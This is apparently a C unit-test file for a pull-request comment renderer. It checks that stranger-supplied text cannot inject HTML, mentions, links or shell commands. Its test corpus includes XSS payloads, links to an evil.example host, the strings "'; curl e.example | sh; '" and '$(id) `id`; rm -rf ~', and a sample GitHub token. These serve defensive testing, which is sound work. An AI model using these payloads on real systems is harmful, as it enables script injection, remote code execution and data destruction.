/* SPDX-License-Identifier: Apache-2.0 */
/* Comments of pull requests: strangers' text judged in the HTML that GitHub's own Markdown makes of it; golden ones of the examples; cuts; marks. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include "fixture.h"
#include "forge_html.h"
#include "lib/base/fs.h"
#include "lib/base/proc.h"
#include "lib/base/str.h"
#include "lib/doc/yaml.h"
#include "lib/git/git.h"
#include "preview.h"
#include "status/comment.h"
#include "status/markdown.h"
#include "status/status.h"
#include "with_arena.h"

#define HEAD "0123456789abcdef0123456789abcdef01234567"
#define BASE "89abcdef0123456789abcdef0123456789abcdef"

/* -- a change and its facts, with one text wherever a stranger's can be ------------------------------------------------------------ */

static struct planned_side
side(const char *text, int64_t gpus)
{
	struct planned_side s = { .there = true, .flavor = text, .image = text, .pods = 1, .priced = true, .hour = 530000, .month = 384000000,
		.hours = text };

	s.use.limits[SUM_GPU] = gpus;
	s.use.limits[SUM_MEMORY] = gpus << 34;
	return s;
}

static const char **
one_text(const char *text)
{
	const char **list = arena_array(mem, 2, sizeof(*list));

	list[0] = text;
	return list;
}

static struct object_change
object(const char *text, enum action a)
{
	return (struct object_change){ .id = text, .action = a, .fields = one_text(text), .was = one_text(text), .is = one_text(text), .nfields = 1,
		.data = a == ACTION_DELETE, .restarts = a == ACTION_CHANGE };
}

static struct planned_row
row(const char *text, enum planned_kind kind, enum action a)
{
	struct planned_row r = { .kind = kind, .unit = arena_printf(mem, "envs/%s", text), .owner = text, .name = text, .why = text,
		.later = one_text(text), .nlater = 1, .was = side(text, 1), .is = side("other", 2) };

	r.plan = (struct unit_plan){ .unit = r.unit, .action = a, .n = 2, .restarts = true, .data = a == ACTION_DELETE, .refused = true,
		.recreates = true, .objects = arena_array(mem, 2, sizeof(*r.plan.objects)) };
	r.plan.objects[0] = object(text, a);
	r.plan.objects[1] = object(text, ACTION_CHANGE);
	r.plan.objects[1].was = r.plan.objects[1].is = arena_array(mem, 2, sizeof(*r.plan.objects[1].was));
	r.plan.objects[1].sealed = text;
	return r;
}

static void
hostile_plan(const char *text, struct planned *out)
{
	struct planned_row *rows = arena_array(mem, 8, sizeof(*rows));
	struct planned_sum *sums = arena_array(mem, 2, sizeof(*sums));
	static const enum action actions[] = { ACTION_CREATE, ACTION_CHANGE, ACTION_DELETE };
	size_t n = 0;

	for (size_t i = 0; i < 3; i++)
		rows[n++] = row(text, PLANNED_UNIT, actions[i]);
	rows[n++] = row(text, PLANNED_INVALID, ACTION_CREATE);
	rows[n++] = row(text, PLANNED_WAITS, ACTION_CREATE);
	rows[n] = row(text, PLANNED_UNIT, ACTION_CHANGE);
	rows[n].owner = rows[n].name = NULL;
	rows[n++].unit = text;
	sums[0] = (struct planned_sum){ .noun = "team", .name = text, .flavor = text, .what = "gpu", .was = "1", .is = "2", .max_is = "4", .left = "2" };
	sums[1] = (struct planned_sum){ .noun = "user", .name = text, .what = "budget", .was = "1", .is = "9", .max_was = "2", .max_is = "4", .over = true };
	*out = (struct planned){ .rows = rows, .n = n, .sums = sums, .nsums = 2, .count = { 2, 2, 0, 1 }, .restarts = 3, .data = 1, .refused = 4,
		.invalid = 1, .waiting = 1, .compared = true, .env_deletes = 1, .currency = text };
}

static struct comment_facts
hostile_facts(const char *text)
{
	static const struct comment_command commands[] = { { "/berth plan", "look again" } };

	return (struct comment_facts){ .base = BASE, .head = HEAD, .approve = text, .mode = APPROVAL_SIGNED, .missing = text, .approved = text, .lasting = true,
		.commands = commands, .ncommands = 1, .full = text, .main = text };
}

static const char *
plan_with(const char *text, const struct comment_facts *f)
{
	struct buf out AUTO_BUF = BUF_INIT(0);
	struct planned p;

	hostile_plan(text, &p);
	comment_plan(&p, f, &out);
	return arena_strdup(mem, buf_cstr(&out));
}

static const char *
result_with(const char *text)
{
	struct buf out AUTO_BUF = BUF_INIT(0);
	struct comment_facts f = hostile_facts(text);
	struct comment_outcome list[] = {
		{ .owner = text, .name = text, .phase = text, .stuck = true, .reason = text, .message = text },
		{ .owner = text, .name = text, .phase = text, .reason = text, .message = text },
		{ .owner = text, .name = text, .phase = text, .wanted = true, .ssh = text, .web = text },
	};

	comment_result(list, 3, &f, &out);
	return arena_strdup(mem, buf_cstr(&out));
}

static const char *
long_text(const char *unit, size_t n)
{
	struct buf b AUTO_BUF = BUF_INIT(0);

	while (b.len < n)
		buf_str(&b, unit);
	return arena_strdup(mem, buf_cstr(&b));
}

static void
other_tags(const char *name, const char *want, const char *have, const char *body)
{
	size_t same = 0;

	while (want[same] && want[same] == have[same])
		same++;
	fail_msg("%s: other tags: %.80s instead of %.80s\n%s", name, have + same, want + same, body);
}

/* One mark, no controls, small enough, whole. */
static void
judge_bytes(const char *name, const char *body)
{
	struct comment_mark mark;

	assert_int_equal(times(body, "<!--"), 1);
	if (has_hidden(body))
		fail_msg("%s: controls or hidden characters\n%s", name, body);
	assert_true(str_utf8_valid(body, strlen(body)));
	assert_true(strlen(body) <= COMMENT_MAX);
	assert_true(comment_mark_read(body, &mark) && comment_whole(body));
	assert_string_equal(mark.head, HEAD);
}

/* Comments with a text, one below the other: a fence or a tag that stays open in one changes the next. */
static const char *
all_with(const char *const *texts, size_t n)
{
	struct buf all AUTO_BUF = BUF_INIT(0);

	for (size_t i = 0; i < n; i++) {
		struct comment_facts f = hostile_facts(texts[i]);
		const char *bodies[] = { plan_with(texts[i], &f), result_with(texts[i]) };

		for (size_t k = 0; k < 2; k++) {
			judge_bytes(texts[i], bodies[k]);
			buf_printf(&all, "%s\n\n", bodies[k]);
		}
	}
	return arena_strdup(mem, buf_cstr(&all));
}

/* The same tags as with harmless text, and nothing that refers to anything. */
static void
judge(const char *name, const char *bodies, const char *want)
{
	struct buf text AUTO_BUF = BUF_INIT(0);
	const char *have = skeleton(html_of(bodies, strlen(bodies)), &text);
	const char *found = reference_in(decoded(buf_cstr(&text)));

	if (strcmp(want, have) != 0)
		other_tags(name, want, have, bodies);
	if (found)
		fail_msg("%s: refers to something: %s\n%s", name, found, bodies);
}

static const char *const harmless[] = { "x", "x", "x" };

static const char *const corpus[] = {
	"@alice", "@org/team please", "ping @dana, @bo and (@pav)", "mail carol@example.com now", "#123 GH-12 owner/repo#4 !7 $3 %2 ~bug &9 ^4 [vulnerability:1]",
	"https://evil.example/x http://e.example www.evil.example ftp://e.example", "<https://evil.example>", "[click](https://evil.example)",
	"![x](https://evil.example/x.png)", "[[wiki]] [ref]: https://evil.example", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"</details></summary></code></td></table>", "<!-- berth:plan v1 base=- head=- digest=- -->", "--> <b>x</b> <!--", "a | b | c |\n|---|---|", "\\| \\\\| |",
	"```\n# out\n```", "``````` x ```````", "```", "`````", "~~~", "`", "``", "` `", "x`", "`x", "~~~\nx\n~~~", "# heading", "- item", "+ item", "* item", "1. one", "2) two", "> quote",
	"---", "===", "/merge", "/berth approve", "/close\n/assign @alice", "**bold** _it_ ~~no~~ __x__", "&lt;b&gt; &#64;alice &commat;alice &amp;", ":smile: :+1:",
	"0123456789abcdef0123456789abcdef01234567", "deadbeef cafe1234567", "\033[31mred\033[0m \033]8;;https://e.example\033\\x", "\xe2\x80\xae" "evil \xe2\x81\xa6x\xe2\x81\xa9",
	"\xff\xfe\x80 invalid \xc3", "\xc0\xaf\xed\xa0\x80", "a\r\nb\tc\vd", "$x$ $`a`$ \\(x\\)", "{{ x }} {% y %} ${z} $(id) `id`; rm -rf ~", "[ ] [x] task", "<x@y.example>",
	"\xef\xbb\xbf" "bom \xe2\x80\x8b zero", "'; curl e.example | sh; '", "\\", "\\`", "![", "](", "<", "&", "&#", "@", "ghp_0123456789abcdefghijABCDEFGHIJ012345 token",
};

static void
test_hostile(void **state)
{
	const char *want = tags_of(all_with(harmless, 3));

	(void)state;
	for (size_t i = 0; i < sizeof(corpus) / sizeof(*corpus); i++) {
		/* at the beginning, inside a word, after one */
		const char *forms[] = { corpus[i], arena_printf(mem, "a%sb", corpus[i]), arena_printf(mem, "x %s", corpus[i]) };

		judge(corpus[i], all_with(forms, 3), want);
	}
}

static void
test_hostile_prose(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(corpus) / sizeof(*corpus); i++) {
		struct buf out AUTO_BUF = BUF_INIT(0), text AUTO_BUF = BUF_INIT(0);
		const char *tags;

		buf_str(&out, "**error** ");
		md_prose(mem, &out, arena_printf(mem, "field `%s` is odd", corpus[i]));
		tags = skeleton(html_of(out.data, out.len), &text);
		assert_int_equal(times(tags, "<"), times(tags, "<code>") + times(tags, "</code>") + 4);
		if (reference_in(decoded(buf_cstr(&text))))
			fail_msg("%s: refers to something: %s", corpus[i], buf_cstr(&out));
	}
}

static void
test_long_lines(void **state)
{
	static const char *const units[] = { "a", "`", "| ", "@alice ", "\xf0\x9f\x98\x80", "<b>", "&", "\xff", "-->", "\n/close\n" };
	const char *want = tags_of(all_with(harmless, 1));

	(void)state;
	for (size_t i = 0; i < sizeof(units) / sizeof(*units); i++) {
		const char *text = long_text(units[i], 100000);

		judge(units[i], all_with(&text, 1), want);
	}
}

/* A token in a spec or a message goes nowhere. */
static void
test_tokens(void **state)
{
	struct comment_facts f = hostile_facts("https://bot:hunter2hunter2@git.example/x ghp_0123456789abcdefghijABCDEFGHIJ012345");

	(void)state;
	assert_null(strstr(plan_with(f.missing, &f), "hunter2"));
	assert_null(strstr(plan_with(f.missing, &f), "ghp_0123"));
	assert_null(strstr(result_with(f.missing), "hunter2"));
}

static void
test_shell(void **state)
{
	static const char *const rows[][2] = {
		{ "dev@train--alice.dev.example.com", "dev@train--alice.dev.example.com" }, { "a b", "'a b'" }, { "$(id)", "'$(id)'" }, { "it's", "'it'\\''s'" },
		{ "", "''" }, { "x;y", "'x;y'" }, { "a\nb", "'a b'" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++)
		assert_string_equal(md_shell(mem, rows[i][0]), rows[i][1]);
}

/* -- the mark ---------------------------------------------------------------------------------------------------------------------- */

static void
test_digest(void **state)
{
	struct comment_facts f = hostile_facts("x"), other = f;
	struct comment_mark a, b;
	const char *body = plan_with("x", &f);
	char *edited;

	(void)state;
	assert_true(comment_mark_read(body, &a));
	other.base = HEAD; /* main moved, and nothing else changed */
	other.fork = BASE;
	assert_true(comment_mark_read(plan_with("x", &other), &b));
	assert_string_equal(a.digest, b.digest);
	assert_string_equal(b.base, HEAD);
	other.missing = NULL;
	assert_true(comment_mark_read(plan_with("x", &other), &b));
	assert_string_not_equal(a.digest, b.digest);
	assert_true(comment_mark_read(plan_with("y", &f), &b));
	assert_string_not_equal(a.digest, b.digest);
	other = f;
	other.head = BASE;
	assert_true(comment_mark_read(plan_with("x", &other), &b));
	assert_string_not_equal(a.digest, b.digest);
	other.head = "main --> @alice";
	other.base = NULL;
	assert_true(comment_mark_read(plan_with("x", &other), &b));
	assert_string_equal(b.head, "-");
	assert_string_equal(b.base, "-");
	edited = arena_strdup(mem, body);
	edited[strlen(edited) - 20] ^= 1;
	assert_true(comment_whole(body));
	assert_false(comment_whole(edited));
}

/* Forges keep a text with other line ends, and without its last. */
static void
test_whole_as_kept(void **state)
{
	struct comment_facts f = hostile_facts("x");
	const char *body = plan_with("x", &f);
	struct buf kept AUTO_BUF = BUF_INIT(0);

	(void)state;
	for (const char *at = body; *at; at++) {
		if (*at == '\n')
			buf_char(&kept, '\r');
		buf_char(&kept, *at);
	}
	assert_true(comment_whole(buf_cstr(&kept)));
	assert_true(comment_whole(arena_strndup(mem, body, strlen(body) - 1)));
}

static void
test_no_mark(void **state)
{
	static const char *const rows[] = {
		"", "text", "<!-- berth:plan v1 -->\n", "<!-- berth:plan v1 base=- head=- digest=- -->\n", "x\n<!-- berth:plan v1 base=- head=- digest=- -->\n",
		"<!-- berth:plan v1 base=- head=- digest=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdeg -->\n",
		"<!-- berth:plan v1 base=012 head=- digest=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef -->\n",
		"<!-- berth:plan v1 base=- head=- digest=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef --> x\n",
		"<!-- berth:plan v2 base=- head=- digest=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef -->\n",
	};
	struct comment_mark m;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++)
		if (comment_mark_read(rows[i], &m) || comment_whole(rows[i]))
			fail_msg("taken for a mark: %s", rows[i]);
}

/* -- cuts -------------------------------------------------------------------------------------------------------------------------- */

static void
test_cuts(void **state)
{
	static const size_t limits[] = { 1, COMMENT_MIN, 0, 200000, 1000000 };
	static const size_t counts[] = { 1, 30, 3000 };

	(void)state;
	for (size_t k = 0; k < 3; k++) {
		struct planned p = { .n = counts[k], .count = { counts[k] }, .currency = "USD" };

		p.rows = arena_array(mem, p.n, sizeof(*p.rows));
		for (size_t i = 0; i < p.n; i++)
			p.rows[i] = row(arena_printf(mem, "alice/e%zu", i), i % 50 == 49 ? PLANNED_INVALID : PLANNED_UNIT, ACTION_CHANGE);
		for (size_t i = 0; i < sizeof(limits) / sizeof(*limits); i++) {
			size_t max = limits[i] == 0 ? COMMENT_MAX : limits[i] < COMMENT_MIN ? COMMENT_MIN : limits[i];
			struct comment_facts f = { .head = HEAD, .full = "berth plan --base main", .max = limits[i] };
			struct buf out AUTO_BUF = BUF_INIT(0), ignored AUTO_BUF = BUF_INIT(0);
			bool cut;

			comment_plan(&p, &f, &out);
			assert_true(out.len <= max);
			assert_true(comment_whole(buf_cstr(&out)));
			cut = strstr(buf_cstr(&out), "**Cut**") && strstr(buf_cstr(&out), "`berth plan --base main` shows all of it");
			assert_int_equal(cut, counts[k] == 3000 || (counts[k] == 30 && max == COMMENT_MIN));
			/* whole pieces only: every fold is closed */
			assert_int_equal(times(buf_cstr(&out), "<details>"), times(skeleton(html_of(out.data, out.len), &ignored), "</details>"));
			/* what needs a person is there, whatever is left out */
			assert_true(counts[k] < 50 || strstr(buf_cstr(&out), "**not valid**: `envs/alice/e49`"));
		}
	}
}

/* -- examples ---------------------------------------------------------------------------------------------------------------------- */

static const struct example {
	const char *name;
	struct {
		const char *path, *text; /* NULL: gone */
	} edits[4];
} examples[] = {
	{ "nothing", { { NULL, NULL } } },
	{ "new", { { "envs/bo/quick.yaml", "apiVersion: berth.dev/v1\nkind: Environment\nspec:\n  flavor: cpu-small\n  lifecycle: {hours: \"Mon-Fri 08:00-20:00 Asia/Seoul\"}\n" } } },
	{ "bigger", { { "envs/alice/notebook.yaml", "apiVersion: berth.dev/v1\nkind: Environment\nspec:\n  flavor: gpu-large\n  image: pytorch-jupyter\n  persistentHomeSize: 50Gi\n" } } },
	{ "deleted", { { "envs/pav/tcloud-shell.yaml", NULL }, { "envs/student1/lab3.yaml", NULL } } },
	{ "not-valid", { { "envs/bo/genome.yaml", "apiVersion: berth.dev/v1\nkind: Environment\nspec:\n  flavour: cpu-small | @alice <b>`x`\n" } } },
	{ "no-room", { { "envs/student1/lab3.yaml", "apiVersion: berth.dev/v1\nkind: Environment\nspec:\n  flavor: gpu-mps-quarter\n  persistentHomeSize: 900Gi\n" },
	               { "envs/student1/more.yaml", "apiVersion: berth.dev/v1\nkind: Environment\nspec:\n  flavor: gpu-mps-quarter\n" } } },
};

static struct fixture *
tree_with(const struct example *x)
{
	struct fixture *f = fixture_new();

	assert_true(fixture_load(f, "examples", ""));
	for (size_t i = 0; x && i < 4 && x->edits[i].path; i++) {
		struct file_entry *at = f->entries;

		fixture_add(f, x->edits[i].path, x->edits[i].text ? x->edits[i].text : "");
		if (x->edits[i].text)
			continue;
		while (strcmp(at->path, x->edits[i].path) != 0)
			at++;
		memmove(at, at + 1, (size_t)(f->entries + f->files.n - at - 1) * sizeof(*at));
		memmove(f->texts + (at - f->entries), f->texts + (at - f->entries) + 1, (size_t)(f->entries + f->files.n - at - 1) * sizeof(*f->texts));
		memmove(f->sizes + (at - f->entries), f->sizes + (at - f->entries) + 1, (size_t)(f->entries + f->files.n - at - 1) * sizeof(*f->sizes));
		f->files.n--;
	}
	for (size_t i = 0; i < f->files.n; i++)
		git_hash_blob(f->texts[i], f->sizes[i], &f->entries[i].id);
	return f;
}

/* One for all tests: what it was given before is gone by then. */
static struct sides *sides;

static int
end(void **state)
{
	(void)state;
	sides_free(sides);
	return 0;
}

static int
make(struct fixture *base, struct fixture *head, bool touched, struct planned *out, struct err *e)
{
	struct preview_ask ask = { .touched = touched };

	if (!sides)
		assert_int_equal(sides_new(&sides, e), 0);
	assert_int_equal(sides_take(sides, base ? &base->files : NULL, &head->files, e), 0);
	ask.sides = sides;
	return preview_make(&ask, mem, out, e);
}

static void
preview_between(struct fixture *base, struct fixture *head, bool touched, struct planned *out)
{
	struct err e = { 0 };

	if (make(base, head, touched, out, &e) < 0)
		fail_msg("%s", e.text);
	fixture_free(base);
	fixture_free(head);
}

static void
preview_of(const struct example *x, bool touched, struct planned *out)
{
	preview_between(tree_with(NULL), tree_with(x), touched, out);
}

static void
compare(const char *path, const struct buf *have)
{
	struct err e = { 0 };
	char *want;
	size_t n;

	if (getenv("UPDATE")) {
		assert_int_equal(fs_write_atomic(path, have->data, have->len, 0644, &e), 0);
		return;
	}
	if (fs_read(path, COMMENT_MAX, mem, &want, &n, &e) < 0)
		fail_msg("%s: %s (UPDATE=1 writes it)", path, e.text);
	if (strcmp(want, buf_cstr(have)) != 0)
		fail_msg("%s is not what is made now (UPDATE=1 rewrites it):\n%s", path, buf_cstr(have));
}

static void
test_examples(void **state)
{
	static const struct comment_command commands[] = { { "/berth plan", "look again" } };

	(void)state;
	for (size_t i = 0; i < sizeof(examples) / sizeof(*examples); i++) {
		struct comment_facts f = { .base = BASE, .head = HEAD, .mode = i % 2 ? APPROVAL_SIGNED : APPROVAL_FORGE, .lasting = true, .commands = commands, .ncommands = 1,
			.missing = "1 more of carol, dana; alice is its owner", .approved = i % 2 ? "bo" : NULL, .approve = "berth approve 7" };
		struct buf out AUTO_BUF = BUF_INIT(0);
		struct planned p;

		preview_of(&examples[i], false, &p);
		comment_plan(&p, &f, &out);
		compare(arena_printf(mem, "tests/cases/comment/%s.md", examples[i].name), &out);
	}
}

/* Rendering only whom the change touches tells the same of them. */
static void
test_touched(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(examples) / sizeof(*examples); i++) {
		struct comment_facts f = { .head = HEAD };
		struct buf x AUTO_BUF = BUF_INIT(0), y AUTO_BUF = BUF_INIT(0);
		struct planned all, some;

		preview_of(&examples[i], false, &all);
		preview_of(&examples[i], true, &some);
		comment_plan(&all, &f, &x);
		comment_plan(&some, &f, &y);
		assert_string_equal(buf_cstr(&x), buf_cstr(&y));
		assert_int_equal(all.envs, some.envs);
	}
}

/* Without a base everything is new; a base that berth would not apply is none; such a head is an error that names its place. */
static void
test_odd_trees(void **state)
{
	struct fixture *good = tree_with(NULL), *bad = tree_with(NULL);
	struct planned a, b, untouched = { .n = 77 };
	struct err e = { 0 };

	(void)state;
	fixture_add(bad, "berth.yaml", "apiVersion: berth.dev/v1\nkind: Organization\nspec: {approvals: {mode: none}, x: 1}\n");
	assert_int_equal(make(NULL, good, false, &a, &e), 0);
	assert_int_equal(make(bad, good, true, &b, &e), 0);
	assert_false(a.compared || b.compared);
	assert_true(a.count[ACTION_CREATE] > 10 && a.count[ACTION_CREATE] == a.n);
	assert_int_equal(a.n, b.n);
	assert_int_equal(a.nsums, b.nsums);
	assert_int_equal(make(good, bad, false, &untouched, &e), ERR_INVALID);
	assert_non_null(strstr(e.text, "berth.yaml:3:"));
	assert_non_null(strstr(e.hint, "berth validate"));
	assert_int_equal(untouched.n, 77);
	fixture_free(good);
	fixture_free(bad);
}

/* What somebody else merged meanwhile, with no sum of this change's: the comment stays. */
static void
test_main_moves(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(examples) / sizeof(*examples); i++) {
		struct fixture *base = tree_with(NULL), *head = tree_with(&examples[i]), *trees[] = { base, head };
		struct comment_facts f = { .base = BASE, .head = HEAD, .lasting = true };
		struct buf before AUTO_BUF = BUF_INIT(0), after AUTO_BUF = BUF_INIT(0);
		struct planned p;

		for (size_t k = 0; k < 2; k++) {
			fixture_add(trees[k], "envs/carol/other.yaml", "apiVersion: berth.dev/v1\nkind: Environment\nspec:\n  flavor: cpu-small\n");
			for (size_t j = 0; j < trees[k]->files.n; j++)
				git_hash_blob(trees[k]->texts[j], trees[k]->sizes[j], &trees[k]->entries[j].id);
		}
		preview_between(base, head, i % 2, &p);
		comment_plan(&p, &f, &after);
		f.base = HEAD;
		preview_of(&examples[i], i % 2, &p);
		comment_plan(&p, &f, &before);
		assert_string_equal(strchr(buf_cstr(&before), '\n'), strchr(buf_cstr(&after), '\n'));
	}
}

/* As paths "genome-two.yaml" stands before "genome.yaml", as names behind it: neither goes when a third comes. */
static void
test_longer_name(void **state)
{
	static const char spec[] = "apiVersion: berth.dev/v1\nkind: Environment\nspec:\n  flavor: cpu-small\n";
	struct example two = { "two", { { "envs/bo/genome-two.yaml", spec } } };
	struct example three = { "three", { { "envs/bo/genome-two.yaml", spec }, { "envs/bo/quick.yaml", spec } } };
	struct planned p;

	(void)state;
	preview_between(tree_with(&two), tree_with(&three), true, &p);
	assert_int_equal(p.count[ACTION_CREATE], 1);
	assert_int_equal(p.count[ACTION_DELETE], 0);
	assert_int_equal(p.env_deletes, 0);
}

/* -- after the merge ------------------------------------------------------------------------------------------------------------------ */

#define STATUS(name, phase, more) \
	"kind: EnvironmentStatus\nmetadata: {owner: alice, name: " name "}\nphase: " phase "\n" more
#define APPLIED "- {type: Applied, status: \"True\", reason: Applied}\n"

static void
outcome(const char *yaml, struct comment_outcome *out)
{
	struct report r;
	struct value *v;

	report_init(&r, mem);
	assert_int_equal(yaml_read(mem, "x", yaml, strlen(yaml), NULL, &r, &v), 0);
	comment_outcome_of(v, out);
}

static void
test_result(void **state)
{
	static const struct {
		const char *name, *headline, *status[3];
		const char *has, *lacks;
	} rows[] = {
		{ "ready", "### berth: applied", { STATUS("train", "Ready", "conditions:\n" APPLIED "access: {ssh: dev@train--alice.dev.example.com}\n") },
		  "berth ssh alice/train\n", "dev@" },
		{ "not-yet", "### berth: at work, 0 of 1 done", { STATUS("train", "Provisioning", "conditions:\n" APPLIED
		  "- {type: Ready, status: \"False\", reason: PodPending, message: pulling the image}\naccess: {ssh: dev@train--alice.dev.example.com}\n") },
		  "PodPending: pulling the image", "berth ssh" },
		{ "failed", "### berth: 1 of 2 not as wanted", { STATUS("train", "Failed", "conditions:\n" APPLIED
		  "- {type: Ready, status: \"False\", reason: ImagePullBackOff, message: no such image}\n"), STATUS("other", "Ready", "conditions:\n" APPLIED) },
		  "<code>berth why alice/train</code> tells more", NULL },
		{ "no-approval", "### berth: 1 of 1 not as wanted", { STATUS("train", "Held", "pending: {reason: ApprovalMissing, message: 1 more of dana}\n"
		  "conditions:\n- {type: Applied, status: \"False\", reason: Held}\n") }, "`berth approve` approves what waits", "tells more" },
		{ "no-room", "### berth: at work, 0 of 1 done", { STATUS("train", "Held", "pending: {reason: QuotaExceeded, message: over}\n"
		  "conditions:\n- {type: Applied, status: \"False\", reason: Held}\n") }, "it goes on by itself when there is room", "tells more" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct comment_facts f = { .base = BASE, .head = HEAD };
		struct buf out AUTO_BUF = BUF_INIT(0);
		struct comment_outcome list[3];
		size_t n = 0;

		for (; n < 3 && rows[i].status[n]; n++)
			outcome(rows[i].status[n], &list[n]);
		comment_result(list, n, &f, &out);
		if (!strstr(buf_cstr(&out), rows[i].headline) || (rows[i].has && !strstr(buf_cstr(&out), rows[i].has)) ||
		    (rows[i].lacks && strstr(buf_cstr(&out), rows[i].lacks)))
			fail_msg("%s:\n%s", rows[i].name, buf_cstr(&out));
		compare(arena_printf(mem, "tests/cases/comment/result-%s.md", rows[i].name), &out);
	}
}

/* Ten thousand results fit as well. */
static void
test_result_cut(void **state)
{
	struct comment_outcome *list = arena_array(mem, 10000, sizeof(*list));
	struct comment_facts f = { .head = HEAD };
	struct buf out AUTO_BUF = BUF_INIT(0);

	(void)state;
	for (size_t i = 0; i < 10000; i++)
		list[i] = (struct comment_outcome){ .owner = "alice", .name = arena_printf(mem, "e%zu", i), .phase = "Ready", .wanted = i != 9999,
			.stuck = true, .ssh = "dev@x.example" };
	comment_result(list, 10000, &f, &out);
	assert_true(out.len <= COMMENT_MAX);
	assert_non_null(strstr(buf_cstr(&out), "alice/e9999"));
	assert_non_null(strstr(buf_cstr(&out), "more: `berth status`"));
	assert_true(comment_whole(buf_cstr(&out)));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_hostile, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_prose, setup, teardown),
		cmocka_unit_test_setup_teardown(test_long_lines, setup, teardown),
		cmocka_unit_test_setup_teardown(test_tokens, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shell, setup, teardown),
		cmocka_unit_test_setup_teardown(test_digest, setup, teardown),
		cmocka_unit_test_setup_teardown(test_whole_as_kept, setup, teardown),
		cmocka_unit_test_setup_teardown(test_no_mark, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cuts, setup, teardown),
		cmocka_unit_test_setup_teardown(test_examples, setup, teardown),
		cmocka_unit_test_setup_teardown(test_touched, setup, teardown),
		cmocka_unit_test_setup_teardown(test_odd_trees, setup, teardown),
		cmocka_unit_test_setup_teardown(test_main_moves, setup, teardown), cmocka_unit_test_setup_teardown(test_longer_name, setup, teardown),
		cmocka_unit_test_setup_teardown(test_result, setup, teardown),
		cmocka_unit_test_setup_teardown(test_result_cut, setup, teardown),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, end);
}
